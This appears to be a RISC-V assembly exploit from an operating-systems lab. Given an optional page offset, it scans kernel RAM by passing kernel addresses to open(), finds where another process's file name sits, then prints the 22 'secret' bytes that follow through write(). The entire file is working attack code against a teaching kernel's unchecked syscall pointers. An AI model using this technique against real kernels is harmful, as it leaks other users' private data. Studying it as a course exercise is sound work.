# peek.s - looks for what `secret` has, with addresses of the kernel in system calls.
#
# open() answers whether there is a text at an address that is the name of a file, if the kernel forgets to check
# the address; then write() prints what follows it.  `peek 1024` begins with that page of RAM, not the first.
    .include "user.inc"

    .equ    RAM, 0x80000000
    .equ    RAM_SIZE, 0x800000
    .equ    PAGE, 4096
    .equ    NAME_BYTES, 16
    .equ    SECRET_BYTES, 22

    .text
    .globl  main
main:
    enter   s0, s1
    li      a1, 0
    call    number_argument
    slli    s0, a0, 12                      # PAGE
    li      t0, RAM
    add     s0, s0, t0                      # s0: where to look
    li      a0, 50000                       # ticks: let the other one begin
    call    sleep
    li      s1, RAM + RAM_SIZE
1:  mv      a0, s0
    call    open
    bgez    a0, 2f
    li      t0, PAGE
    add     s0, s0, t0
    bne     s0, s1, 1b
    say     "nothing found\n"
    li      a0, 0
    leave   s0, s1
2:  addi    a0, s0, NAME_BYTES
    li      a1, SECRET_BYTES
    call    write
    li      a0, 0
    leave   s0, s1
